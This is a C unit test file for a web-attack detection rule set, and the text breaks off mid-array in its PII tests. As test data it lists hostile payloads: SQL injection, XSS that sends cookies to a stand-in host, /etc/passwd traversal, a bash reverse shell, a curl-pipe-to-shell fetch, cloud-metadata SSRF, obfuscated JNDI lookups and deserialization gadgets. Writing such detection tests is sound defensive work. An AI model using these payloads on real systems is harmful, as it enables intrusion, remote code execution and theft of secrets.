/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The default rule set (config/rules, whose directory is the program's
 * first argument): it loads, every rule carries its metadata in the range
 * of its class, and for each class a list of attacks fires exactly the
 * expected categories while near misses (benign text that looks close,
 * such as "select a union representative" or "O'Brien") fire nothing.
 *
 * Each value is put where a client would send it (a query parameter, a
 * JSON body, a header, a response) and inspected as a worker does. The
 * outcome is written as the sorted, distinct categories that fired, with
 * sensitive-data findings as "pii:<type>", so a case reads as one line.
 */
// clang-format off
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
// clang-format on

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ar_match.h"

static const char *rules_dir;
static struct ar_ruleset *rs;
static struct ar_match_ws *ws;

/* ---- building exchanges ------------------------------------------- */

enum place {
	P_QUERY,      /* /search?q=VALUE, percent-encoded */
	P_QUERY_NAME, /* /search?VALUE=1, the name percent-encoded */
	P_JSON,       /* {"name": VALUE} as a JSON string */
	P_JSON_BODY,  /* VALUE is the whole JSON request body */
	P_FORM,       /* VALUE is the whole form body */
	P_XML,        /* VALUE is the whole XML request body */
	P_HEADER,     /* X-Note: VALUE */
	P_UA,         /* User-Agent: VALUE */
	P_COOKIE,     /* Cookie: VALUE */
	P_RESP_BODY,  /* VALUE is a text/html response body */
	P_RESP_JSON,  /* VALUE is the whole JSON response body */
	P_SERVER,     /* Server: VALUE in the response */
	P_POWERED,    /* X-Powered-By: VALUE in the response */
};

struct req {
	char target[4096];
	char body[4096];
	struct ar_kv req_hdr[4];
	struct ar_kv resp_hdr[2];
	struct ar_exchange x;
};

static size_t
pct_encode(const char *s, char *out, size_t cap)
{
	static const char hex[] = "0123456789ABCDEF";
	size_t o = 0;
	for (; *s && o + 4 < cap; s++) {
		unsigned char c = (unsigned char)*s;
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
		    c == '-' || c == '_' || c == '.' || c == '~') {
			out[o++] = (char)c;
		} else {
			out[o++] = '%';
			out[o++] = hex[c >> 4];
			out[o++] = hex[c & 15];
		}
	}
	out[o] = '\0';
	return o;
}

static size_t
json_quote(const char *s, char *out, size_t cap)
{
	size_t o = 0;
	out[o++] = '"';
	for (; *s && o + 8 < cap; s++) {
		unsigned char c = (unsigned char)*s;
		if (c == '"' || c == '\\') {
			out[o++] = '\\';
			out[o++] = (char)c;
		} else if (c < 0x20) {
			o += (size_t)snprintf(out + o, cap - o, "\\u%04x", c);
		} else {
			out[o++] = (char)c;
		}
	}
	out[o++] = '"';
	out[o] = '\0';
	return o;
}

static void
kv(struct ar_kv *h, const char *name, const char *value)
{
	*h = (struct ar_kv){ name, value, (uint32_t)strlen(name), (uint32_t)strlen(value) };
}

static void
build(struct req *r, enum place p, const char *v)
{
	size_t l;
	memset(&r->x, 0, sizeof(r->x));
	kv(&r->req_hdr[0], "Host", "api.example.com");
	r->x.req_headers = r->req_hdr;
	r->x.n_req_headers = 1;
	r->x.target = "/api/items";
	r->x.target_len = strlen(r->x.target);
	switch (p) {
	case P_QUERY:
	case P_QUERY_NAME:
		l = (size_t)snprintf(r->target, sizeof(r->target), "/search?%s",
				     p == P_QUERY ? "q=" : "");
		l += pct_encode(v, r->target + l, sizeof(r->target) - l - 3);
		if (p == P_QUERY_NAME)
			l += (size_t)snprintf(r->target + l, sizeof(r->target) - l, "=1");
		r->x.target = r->target;
		r->x.target_len = l;
		break;
	case P_JSON:
		l = (size_t)snprintf(r->body, sizeof(r->body), "{\"name\": ");
		l += json_quote(v, r->body + l, sizeof(r->body) - l - 2);
		l += (size_t)snprintf(r->body + l, sizeof(r->body) - l, "}");
		kv(&r->req_hdr[1], "Content-Type", "application/json");
		r->x.n_req_headers = 2;
		r->x.req_body = r->body;
		r->x.req_body_len = l;
		break;
	case P_JSON_BODY:
	case P_FORM:
	case P_XML:
		kv(&r->req_hdr[1], "Content-Type",
		   p == P_JSON_BODY ? "application/json" :
		   p == P_FORM      ? "application/x-www-form-urlencoded" :
				      "application/xml");
		r->x.n_req_headers = 2;
		r->x.req_body = v;
		r->x.req_body_len = strlen(v);
		break;
	case P_HEADER:
	case P_UA:
	case P_COOKIE:
		kv(&r->req_hdr[1],
		   p == P_HEADER ? "X-Note" :
		   p == P_UA     ? "User-Agent" :
				   "Cookie",
		   v);
		r->x.n_req_headers = 2;
		break;
	case P_RESP_BODY:
	case P_RESP_JSON:
		kv(&r->resp_hdr[0], "Content-Type",
		   p == P_RESP_BODY ? "text/html; charset=utf-8" : "application/json");
		r->x.resp_headers = r->resp_hdr;
		r->x.n_resp_headers = 1;
		r->x.resp_body = v;
		r->x.resp_body_len = strlen(v);
		r->x.has_response = true;
		break;
	case P_SERVER:
	case P_POWERED:
		kv(&r->resp_hdr[0], p == P_SERVER ? "Server" : "X-Powered-By", v);
		r->x.resp_headers = r->resp_hdr;
		r->x.n_resp_headers = 1;
		r->x.has_response = true;
		break;
	}
}

/* ---- what fired ------------------------------------------------------ */

#define MAX_SEEN 32

struct seen {
	char tok[MAX_SEEN][40];
	unsigned n;
	uint32_t ids[MAX_SEEN];
	bool name_hit[MAX_SEEN];
	unsigned n_ids;
};

static void
on_hit(void *user, const struct ar_hit *h)
{
	struct seen *s = user;
	const struct ar_rule_info *ri = ar_ruleset_rule(rs, h->rule);
	char tok[40];
	if (ri->pii_type)
		snprintf(tok, sizeof(tok), "pii:%s", ri->pii_type);
	else
		snprintf(tok, sizeof(tok), "%s", ri->category);
	if (s->n_ids < MAX_SEEN) {
		s->name_hit[s->n_ids] = h->name_hit;
		s->ids[s->n_ids++] = ri->id;
	}
	for (unsigned i = 0; i < s->n; i++)
		if (strcmp(s->tok[i], tok) == 0)
			return;
	if (s->n < MAX_SEEN)
		memcpy(s->tok[s->n++], tok, sizeof(tok));
}

static int
cmp_tok(const void *a, const void *b)
{
	return strcmp(a, b);
}

/* Inspects @v placed at @p; writes the categories that fired into @out. */
static void
inspect(enum place p, const char *v, struct seen *s, char *out, size_t cap)
{
	static struct req r;
	memset(s, 0, sizeof(*s));
	build(&r, p, v);
	ar_inspect(rs, 0, ws, &r.x, on_hit, s);
	qsort(s->tok, s->n, sizeof(s->tok[0]), cmp_tok);
	size_t o = 0;
	out[0] = '\0';
	for (unsigned i = 0; i < s->n && o < cap; i++)
		o += (size_t)snprintf(out + o, cap - o, "%s%s", i ? "," : "", s->tok[i]);
}

static bool
fired(const struct seen *s, uint32_t id, bool name_hit)
{
	for (unsigned i = 0; i < s->n_ids; i++)
		if (s->ids[i] == id && s->name_hit[i] == name_hit)
			return true;
	return false;
}

struct kase {
	enum place p;
	const char *v;
	const char *want; /* categories, sorted, comma-separated; "" for none */
};

#define N(a) (sizeof(a) / sizeof((a)[0]))

static void
check(const struct kase *k, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct seen s;
		char got[512];
		inspect(k[i].p, k[i].v, &s, got, sizeof(got));
		if (strcmp(got, k[i].want) != 0)
			print_message("value (place %d): %s\n", (int)k[i].p, k[i].v);
		assert_string_equal(got, k[i].want);
	}
}

/* ---- the set as a whole --------------------------------------------- */

static const struct {
	const char *category;
	uint32_t lo, hi;
	const char *owasp;
} classes[] = {
	{ "sqli", 100100, 100199, "API8:2023" },
	{ "xss", 100200, 100299, "API8:2023" },
	{ "path_traversal", 100300, 100399, "API8:2023" },
	{ "cmdi", 100400, 100499, "API8:2023" },
	{ "ssrf", 100500, 100599, "API7:2023" },
	{ "xxe", 100600, 100699, "API8:2023" },
	{ "ssti", 100700, 100799, "API8:2023" },
	{ "nosqli", 100800, 100899, "API8:2023" },
	{ "jndi", 100900, 100999, "API8:2023" },
	{ "deserialization", 101000, 101099, "API8:2023" },
	{ "scanner", 101100, 101199, "API4:2023" },
	{ "leak", 101200, 101299, "API8:2023" },
	{ "pii", 300100, 300199, "API3:2023" },
};

static void
test_every_rule_has_metadata_in_its_class_range(void **state)
{
	(void)state;
	uint32_t n = ar_ruleset_count(rs);
	unsigned per_class[N(classes)] = { 0 };
	assert_true(n >= 80);
	for (uint32_t i = 0; i < n; i++) {
		const struct ar_rule_info *ri = ar_ruleset_rule(rs, i);
		size_t c;
		for (c = 0; c < N(classes) && strcmp(classes[c].category, ri->category) != 0; c++)
			;
		if (c == N(classes))
			print_message("rule %u: category %s\n", ri->id, ri->category);
		assert_true(c < N(classes));
		if (ri->id < classes[c].lo || ri->id > classes[c].hi)
			print_message("rule %u outside %s's range\n", ri->id, ri->category);
		assert_in_range(ri->id, classes[c].lo, classes[c].hi);
		assert_non_null(ri->owasp);
		assert_string_equal(ri->owasp, classes[c].owasp);
		assert_true(ri->cwe > 0);
		assert_true(ri->msg[0] != '\0');
		assert_true(ri->targets != 0);
		per_class[c]++;
	}
	for (size_t c = 0; c < N(classes); c++)
		assert_true(per_class[c] >= 1);
}

/* ---- SQL injection --------------------------------------------------- */

static void
test_sqli_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "' OR '1'='1", "sqli" },
		{ P_QUERY, "admin'--", "sqli" },
		{ P_QUERY, "1 OR 1=1", "sqli" },
		{ P_QUERY, "-1' UNION/**/SELECT/**/1,2,3--", "sqli" },
		{ P_QUERY, "1/*!50000union*/ /*!50000select*/ 1,2", "sqli" },
		{ P_QUERY, "%2527%2520or%25201%253D1--", "sqli" },
		{ P_QUERY, "1' AND SLEEP(5)#", "sqli" },
		{ P_QUERY, "1';WAITFOR DELAY '0:0:5'--", "sqli" },
		{ P_QUERY, "1 and extractvalue(1,concat(0x7e,version()))", "sqli" },
		{ P_QUERY, "1; DROP TABLE users--", "sqli" },
		{ P_QUERY, "' AND 1=2 UNION SELECT table_name FROM information_schema.tables--",
		  "sqli" },
		{ P_QUERY, "1' and ascii(substring((select database()),1,1))>64--", "sqli" },
		{ P_QUERY, "'='", "sqli" },
		{ P_QUERY, "1' ORDER BY 3--+", "sqli" },
		{ P_JSON, "x\") or (\"a\"=\"a", "sqli" },
		{ P_JSON, "1'; exec master..xp_cmdshell 'dir'--", "sqli" },
		{ P_HEADER, "Mozilla' AND SLEEP(5)-- ", "sqli" },
		{ P_COOKIE, "session=1' UNION SELECT NULL--", "sqli" },
	};
	check(k, N(k));
}

static void
test_sqli_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "select a union representative", "" },
		{ P_QUERY, "Please select one item; delete the old one later", "" },
		{ P_QUERY, "O'Brien and sons", "" },
		{ P_QUERY, "Robert'); a name with an apostrophe like O'Brien", "" },
		{ P_QUERY, "It's 'yes' or 'no'", "" },
		{ P_QUERY, "1 < 2", "" },
		{ P_QUERY, "He said \"yes\" -- and left", "" },
		{ P_QUERY, "sort by date desc", "" },
		{ P_QUERY, "Union Station, Chicago", "" },
		{ P_JSON, "Ben & Jerry's; ice cream", "" },
		{ P_JSON, "where is my order?", "" },
		{ P_JSON, "between 1 and 2", "" },
	};
	check(k, N(k));
}

/* ---- cross-site scripting -------------------------------------------- */

static void
test_xss_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "<script>alert(1)</script>", "xss" },
		{ P_QUERY, "<img src=x onerror=alert(1)>", "xss" },
		{ P_QUERY, "\"><svg onload=alert(1)>", "xss" },
		{ P_QUERY, "javascript:alert(document.cookie)", "xss" },
		{ P_QUERY, "&lt;script&gt;alert(1)&lt;/script&gt;", "xss" },
		{ P_QUERY, "<a href=jav&#x09;ascript:alert(1)>x</a>", "xss" },
		{ P_QUERY, "<details open ontoggle=alert(1)>", "xss" },
		{ P_QUERY, "'-alert(1)-'", "xss" },
		{ P_QUERY, "<iframe src=\"https://evil.example/\"></iframe>", "xss" },
		{ P_QUERY, "<div style=\"width: expr/**/ession(alert(1))\">", "xss" },
		{ P_QUERY, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss" },
		{ P_JSON_BODY, "{\"bio\": \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}",
		  "xss" },
		{ P_JSON, "<img src=x onerror=fetch('//e.example/?c='+document.cookie)>", "xss" },
		{ P_HEADER, "<script src=//e.example/x.js></script>", "xss" },
	};
	check(k, N(k));
}

static void
test_xss_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "<b>bold</b> and <i>italic</i>", "" },
		{ P_QUERY, "<p>Hello <em>world</em></p>", "" },
		{ P_QUERY, "x > 3 and y < 4", "" },
		{ P_QUERY, "JavaScript: The Good Parts", "" },
		{ P_QUERY, "Please confirm your email", "" },
		{ P_QUERY, "mode=online", "" },
		{ P_JSON, "the window.location is where", "" },
		{ P_JSON, "<3 you", "" },
		{ P_JSON, "The expression (a+b) is simple", "" },
	};
	check(k, N(k));
}

/* ---- path traversal and file inclusion -------------------------------- */

static void
test_traversal_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "../../../etc/passwd", "path_traversal" },
		{ P_QUERY, "..%252f..%252f..%252fetc%252fpasswd", "path_traversal" },
		{ P_QUERY, "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "path_traversal" },
		{ P_QUERY, "..\\..\\..\\windows\\win.ini", "path_traversal" },
		{ P_QUERY, "....//....//etc/passwd", "path_traversal" },
		{ P_QUERY, "..;/..;/WEB-INF/web.xml", "path_traversal" },
		{ P_QUERY, "/..0x2f..0x2f{file}", "path_traversal" },
		{ P_QUERY, "/etc/shadow", "path_traversal" },
		{ P_QUERY, "C:\\boot.ini", "path_traversal" },
		{ P_QUERY, "php://filter/convert.base64-encode/resource=index.php",
		  "path_traversal" },
		{ P_QUERY, "/proc/self/environ", "path_traversal" },
		{ P_JSON, "/..{file}", "path_traversal" },
		{ P_JSON, "file:/c:/windows/win.ini", "path_traversal" },
		{ P_JSON, "../../../../etc/passwd%00.jpg", "path_traversal" },
	};
	check(k, N(k));
}

static void
test_traversal_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		/* one level up inside a path that goes down first stays below it */
		{ P_QUERY, "see docs/../README for details", "" },
		{ P_QUERY, "/var/www/html/index.html", "" },
		{ P_QUERY, "c:/temp/file.txt", "" },
		{ P_QUERY, "go to /etc and look", "" },
		{ P_QUERY, "passwd command changes passwords", "" },
		{ P_JSON, "wait... what?", "" },
		{ P_JSON, "The web.config file", "" },
	};
	check(k, N(k));
}

/* ---- OS command injection -------------------------------------------- */

static void
test_cmdi_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "; ls -la", "cmdi" },
		{ P_QUERY, "| whoami", "cmdi" },
		{ P_QUERY, "127.0.0.1 && whoami", "cmdi" },
		{ P_QUERY, "a;id", "cmdi" },
		{ P_QUERY, "$(whoami)", "cmdi" },
		{ P_QUERY, "`id`", "cmdi" },
		{ P_QUERY, "; ping -c 10 127.0.0.1", "cmdi" },
		{ P_QUERY, ";curl http://e.example/x.sh|sh", "cmdi" },
		{ P_QUERY, ";bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "cmdi" },
		{ P_QUERY, "%0aid", "cmdi" },
		{ P_QUERY, ";cat${IFS}/etc/passwd", "cmdi,path_traversal" },
		{ P_QUERY, "| type C:\\windows\\win.ini", "cmdi,path_traversal" },
		{ P_QUERY, "&& net user", "cmdi" },
		{ P_QUERY, "| /bin/sleep 31 ;", "cmdi" },
		{ P_QUERY, "<!--#exec cmd=\"/usr/bin/id;-->", "cmdi" },
		{ P_JSON, "ping.exe -n 31 127.0.0.1", "cmdi" },
		{ P_JSON, "+|+dir+c:/", "cmdi" },
		{ P_HEADER, "() { :; }; /bin/bash -c id", "cmdi" },
	};
	check(k, N(k));
}

static void
test_cmdi_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "Tom & Jerry", "" },
		{ P_QUERY, "Name & ID", "" },
		{ P_QUERY, "salt & pepper; cat food", "" },
		{ P_QUERY, "skills: java; python; php; ruby", "" },
		{ P_QUERY, "Meet at 10:30; bring id card", "" },
		{ P_QUERY, "echo chamber", "" },
		{ P_JSON, "sleep 8 hours", "" },
		{ P_JSON, "$(document).ready(function(){})", "" },
		{ P_JSON, "a || b && c", "" },
	};
	check(k, N(k));
}

/* ---- SSRF -------------------------------------------------------------- */

static void
test_ssrf_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "http://169.254.169.254/latest/meta-data/", "ssrf" },
		{ P_QUERY, "http://metadata.google.internal/computeMetadata/v1/", "ssrf" },
		{ P_QUERY, "http://[fd00:ec2::254]/latest/meta-data/", "ssrf" },
		{ P_QUERY, "http://100.100.100.200/latest/meta-data/", "ssrf" },
		{ P_QUERY, "http://2852039166/", "ssrf" },
		{ P_QUERY, "http://127.0.0.1:8080/admin", "ssrf" },
		{ P_QUERY, "http://localhost/server-status", "ssrf" },
		{ P_QUERY, "http://[::1]:22/", "ssrf" },
		{ P_QUERY, "http://0x7f000001/", "ssrf" },
		{ P_QUERY, "https://user@10.1.2.3/", "ssrf" },
		{ P_QUERY, "gopher://127.0.0.1:6379/_SET%20x", "ssrf" },
		{ P_QUERY, "dict://cache.internal:11211/stats", "ssrf" },
		{ P_QUERY, "ftp://files.example.com/a.txt", "ssrf" },
		{ P_QUERY, "file:///etc/passwd", "path_traversal,ssrf" },
		/* JSON fields are also where IP addresses count as personal data */
		{ P_JSON, "http://192.168.1.1/", "pii:ip_address,ssrf" },
	};
	check(k, N(k));
}

static void
test_ssrf_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "https://example.com/search?q=shoes&page=2", "" },
		{ P_QUERY, "http://localhost.example.org/page", "" },
		{ P_QUERY, "my server is at localhost:3000", "" },
		{ P_QUERY, "ftp is an old protocol", "" },
		{ P_QUERY, "10.0.0.1 is my router", "" },
		/* request headers name localhost during development */
		{ P_HEADER, "http://localhost:3000/app", "" },
	};
	check(k, N(k));
}

/* ---- XXE -------------------------------------------------------------- */

static void
test_xxe_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_XML, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://e.example/\">]><r>&x;</r>",
		  "xxe" },
		{ P_XML, "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://e.example/x.dtd\"> %p;]><r/>",
		  "xxe" },
		{ P_XML, "<!DOCTYPE r SYSTEM \"http://e.example/e.dtd\"><r/>", "xxe" },
		{ P_XML, "<!DOCTYPE l [<!ENTITY a \"a\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>",
		  "xxe" },
		{ P_XML,
		  "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"a\"/></r>",
		  "xxe" },
		{ P_QUERY, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://e.example/\">]>", "xxe" },
	};
	check(k, N(k));
}

static void
test_xxe_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_XML, "<?xml version=\"1.0\"?><note><to>Tove</to></note>", "" },
		{ P_XML,
		  "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
		  "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
		  "" },
		{ P_QUERY, "<!DOCTYPE html>", "" },
	};
	check(k, N(k));
}

/* ---- server-side template injection ------------------------------------ */

static void
test_ssti_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "{{7*7}}", "ssti" },
		{ P_QUERY, "${7*7}", "ssti" },
		{ P_QUERY, "<%= 7*7 %>", "ssti" },
		{ P_QUERY, "#{7*7}", "ssti" },
		{ P_QUERY, "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti" },
		{ P_QUERY, "{{config.items()}}", "ssti" },
		{ P_QUERY, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "ssti" },
		{ P_QUERY, "#set($x=$class.inquire(\"java.lang.Runtime\"))", "ssti" },
		{ P_JSON, "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "ssti" },
		{ P_JSON, "{{['id']|filter('system')}}", "ssti" },
	};
	check(k, N(k));
}

static void
test_ssti_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "Hello {{ name }}, your order {{ order.id }} shipped", "" },
		{ P_QUERY, "Price: ${total} USD", "" },
		{ P_QUERY, "#{id} is the placeholder", "" },
		{ P_JSON, "{% if user %}Hi{% endif %}", "" },
		{ P_JSON, "{{7}} items", "" },
	};
	check(k, N(k));
}

/* ---- NoSQL injection --------------------------------------------------- */

static void
test_nosqli_operator_in_json_key(void **state)
{
	(void)state;
	struct seen s;
	char got[256];
	inspect(P_JSON_BODY, "{\"user\": \"admin\", \"password\": {\"$ne\": null}}", &s, got,
		sizeof(got));
	assert_string_equal(got, "nosqli");
	assert_true(fired(&s, 100800, true));
	inspect(P_JSON_BODY, "{\"$where\": \"this.a == 1\"}", &s, got, sizeof(got));
	assert_string_equal(got, "nosqli");
	assert_true(fired(&s, 100801, true));
}

static void
test_nosqli_operator_in_query_name(void **state)
{
	(void)state;
	struct seen s;
	char got[256];
	/* the name is a password field's too: its value is reported */
	inspect(P_QUERY_NAME, "password[$ne]", &s, got, sizeof(got));
	assert_string_equal(got, "nosqli,pii:password");
	assert_true(fired(&s, 100800, true));
	inspect(P_QUERY_NAME, "user[$regex]", &s, got, sizeof(got));
	assert_string_equal(got, "nosqli");
}

static void
test_nosqli_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "{\"$gt\": \"\"}", "nosqli" },
		{ P_QUERY, "' || '1'=='1", "nosqli,sqli" },
		{ P_QUERY, "admin' && this.password.match(/.*/)//", "nosqli" },
		{ P_JSON, "db.users.find({})", "nosqli" },
	};
	check(k, N(k));
}

static void
test_nosqli_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_JSON_BODY, "{\"$ref\": \"#/definitions/User\"}", "" },
		{ P_JSON_BODY, "{\"$schema\": \"https://json-schema.org/draft/2020-12/schema\"}",
		  "" },
		{ P_QUERY_NAME, "price[gt]", "" },
		{ P_QUERY, "$ne is not a word", "" },
	};
	check(k, N(k));
}

/* ---- JNDI lookups ------------------------------------------------------ */

static void
test_jndi_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_UA, "${jndi:ldap://e.example/a}", "jndi" },
		{ P_HEADER, "${${lower:j}ndi:${lower:r}mi://e.example/a}", "jndi" },
		{ P_HEADER, "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://e.example/a}",
		  "jndi" },
		{ P_HEADER, "${j${::-n}di:dns://e.example/a}", "jndi" },
		{ P_HEADER, "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//e/a}",
		  "jndi" },
		{ P_QUERY, "%24%7Bjndi%3Armi%3A%2F%2Fe.example%2Fa%7D", "jndi" },
		{ P_JSON, "${env:AWS_SECRET_ACCESS_KEY}", "jndi" },
		{ P_COOKIE, "id=${jndi:rmi://e.example/a}", "jndi" },
	};
	check(k, N(k));
}

static void
test_jndi_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_HEADER, "Hello ${name}, welcome", "" },
		{ P_HEADER, "${HOME}/bin/tool", "" },
		{ P_QUERY, "jndi is a Java API", "" },
	};
	check(k, N(k));
}

/* ---- deserialisation ---------------------------------------------------- */

static void
test_deserialization_attacks(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_COOKIE, "session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
		  "deserialization" },
		{ P_QUERY, "aced0005737200116a6176612e7574696c2e486173684d6170",
		  "deserialization" },
		{ P_QUERY, "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"test\";}", "deserialization" },
		{ P_COOKIE, "cart=a:1:{i:0;O:10:\"Evil_Class\":1:{s:3:\"cmd\";s:2:\"id\";}}",
		  "deserialization" },
		{ P_QUERY,
		  "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "deserialization" },
		{ P_QUERY, "Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==", "deserialization" },
		{ P_JSON, "!!python/object/apply:os.system [\"id\"]", "deserialization" },
		{ P_JSON_BODY,
		  "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
		  "deserialization" },
		{ P_JSON, "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}", "deserialization" },
		{ P_COOKIE, "vs=AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0", "deserialization" },
	};
	check(k, N(k));
}

static void
test_deserialization_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "rO0 is not base64", "" },
		{ P_QUERY, "a:1:{i:0;s:3:\"abc\";}", "" },
		{ P_QUERY, "O'Neil: 8 items", "" },
		{ P_JSON_BODY, "{\"$type\": \"MyApp.Models.Order, MyApp\"}", "" },
		{ P_QUERY, "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhf", "" },
	};
	check(k, N(k));
}

/* ---- scanners ----------------------------------------------------------- */

static void
test_scanner_user_agents(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_UA, "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner" },
		{ P_UA, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "scanner" },
		{ P_UA,
		  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		  "scanner" },
		{ P_UA, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner" },
		{ P_UA, "Mozilla/5.0 zgrab/0.x", "scanner" },
		{ P_UA, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
		  "scanner" },
		{ P_UA, "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
		  "scanner" },
		{ P_UA, "gobuster/3.6", "scanner" },
		{ P_UA, "Fuzz Faster U Fool v2.1.0 ffuf", "scanner" },
		{ P_UA,
		  "DirBuster-1.0-RC1 "
		  "(http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
		  "scanner" },
		{ P_QUERY, "http://x1.abc123.oastify.com/", "scanner" },
	};
	check(k, N(k));
}

static void
test_scanner_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_UA,
		  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
		  "Gecko) Chrome/119.0 Safari/537.36",
		  "" },
		{ P_UA, "curl/8.4.0", "" },
		{ P_UA, "python-requests/2.31.0", "" },
		/* a scanner's name outside the User-Agent is just a word */
		{ P_HEADER, "sqlmap", "" },
		{ P_QUERY, "nmap tutorial", "" },
	};
	check(k, N(k));
}

/* ---- leaks in responses -------------------------------------------------- */

static void
test_leak_responses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_RESP_BODY,
		  "<b>Warning</b>: You have an error in your SQL syntax; check the manual",
		  "leak" },
		{ P_RESP_BODY, "ORA-01756: quoted string not properly terminated", "leak" },
		{ P_RESP_BODY, "Unclosed quotation mark after the character string ''.", "leak" },
		{ P_RESP_JSON, "{\"error\": \"ERROR: syntax error at or near \\\"'\\\"\"}",
		  "leak" },
		{ P_RESP_BODY,
		  "java.lang.NullPointerException\n\tat com.acme.web.Orders.get(Orders.java:42)\n",
		  "leak" },
		{ P_RESP_BODY,
		  "Traceback (most recent call last):\n  File \"/app/main.py\", line 3, in "
		  "<module>",
		  "leak" },
		{ P_RESP_BODY,
		  "<b>Fatal error</b>: Uncaught Error: x in /var/www/a.php:12\nStack trace:\n#0 "
		  "/var/www/index.php(3): f()",
		  "leak" },
		{ P_RESP_BODY,
		  "System.NullReferenceException: Object reference not set\n   at "
		  "Acme.Web.Home.Index() in C:\\src\\Home.cs:line 17",
		  "leak" },
		{ P_RESP_JSON,
		  "{\"stack\": \"TypeError: x is not a function\\n    at Object.<anonymous> "
		  "(/app/server.js:10:5)\"}",
		  "leak" },
		{ P_SERVER, "Apache/2.4.41 (Ubuntu)", "leak" },
		{ P_SERVER, "nginx/1.18.0", "leak" },
		{ P_POWERED, "PHP/7.4.3", "leak" },
	};
	check(k, N(k));
}

static void
test_leak_near_misses(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_SERVER, "nginx", "" },
		{ P_SERVER, "cloudflare", "" },
		{ P_RESP_BODY, "<p>Your order has shipped. Track it at any time.</p>", "" },
		{ P_RESP_JSON, "{\"message\": \"SQL syntax guide, chapter 3\"}", "" },
		/* the same error text in a request is no leak */
		{ P_QUERY, "you have an error in your sql syntax", "" },
	};
	check(k, N(k));
}

/* ---- sensitive data ------------------------------------------------------ */

static void
test_pii_values(void **state)
{
	(void)state;
	static const struct kase k[] = {
		{ P_QUERY, "john.doe@example.com", "pii:email" },
		{ P_JSON, "+86 138 1234 5678", "pii:phone" },
		{ P_JSON, "+14155552671", "pii:phone" },
		{ P_JSON, "11010519491231002X", "pii:cn_id" },
		{ P_JSON, "4111 1111 1111 1111", "pii:credit_card" },
		{ P_JSON, "DE89 3704 0044 0532 0130 00", "pii:iban" },
		{ P_JSON, "078-05-1120", "pii:us_ssn" },
		{ P_RESP_JSON, "{\"ip\": \"203.0.113.7\"}", "pii:ip_address" },
		{ P_RESP_JSON, "{\"ip\": \"2001:db8::8a2e:370:7334\"}", "pii:ip_address" },
		{ P_RESP_JSON,
